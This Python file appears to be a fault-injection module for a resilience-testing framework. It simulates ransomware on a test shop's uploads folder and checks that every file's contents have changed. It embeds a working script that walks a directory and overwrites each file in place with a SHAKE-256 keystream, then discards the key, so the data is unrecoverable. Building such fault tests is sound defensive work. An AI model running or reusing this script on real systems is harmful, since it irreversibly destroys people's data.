"""`encrypt-uploads`: ransomware: every file is there under its name, and nobody can read it."""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar, Literal

from blackstart.families import Family
from blackstart.faults.on_uploads import Noted, OnUploads, found_now, on_uploads
from blackstart.shop import Shop

_ENCRYPT = """
import hashlib, os, sys
key = os.urandom(32)
for folder, _, names in os.walk(sys.argv[1]):
    for name in names:
        path = os.path.join(folder, name)
        if name.startswith(".") or os.path.islink(path):
            continue
        with open(path, "r+b") as file:
            plain = file.read()
            stream = hashlib.shake_256(key + os.urandom(16)).digest(len(plain))
            file.seek(0)
            mixed = int.from_bytes(plain, "big") ^ int.from_bytes(stream, "big")
            file.write(mixed.to_bytes(len(plain), "big"))
            os.fsync(file.fileno())
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class EncryptUploads(OnUploads):
    """The bytes of each file are replaced in place, while the shop runs, by as many of a cipher (a SHAKE-256 stream).

    Its key and the nonces are nowhere but in the process that does it, and gone with that: there is nothing to pay for.
    Names, sizes, modes and owners stay, and counting files finds nothing.
    """

    NAME: ClassVar[str] = "encrypt-uploads"
    FAMILY: ClassVar[Family] = "data"

    kind: Literal["encrypt-uploads"] = "encrypt-uploads"

    def inject(self, shop: Shop, prepared: Noted) -> None:
        """Encrypt them, and forget the key."""
        on_uploads(shop, _ENCRYPT)

    def witness(self, shop: Shop, prepared: Noted) -> str | None:
        """Every file that was there is there with other bytes, as something started afresh reads it."""
        now = found_now(shop, prepared)
        same = any(seen.blake3 == prepared.files[path].blake3 for path, seen in now.items() if seen.bytes)
        if same or now.keys() != prepared.files.keys():
            return None
        before, after = (each[prepared.named].blake3[:12] for each in (prepared.files, now))
        return (
            f"the uploads: each of {len(now)} files that were there has other bytes;"
            f" the BLAKE3 of {prepared.named} was {before}…, and is {after}…"
        )


EXTENSION = EncryptUploads
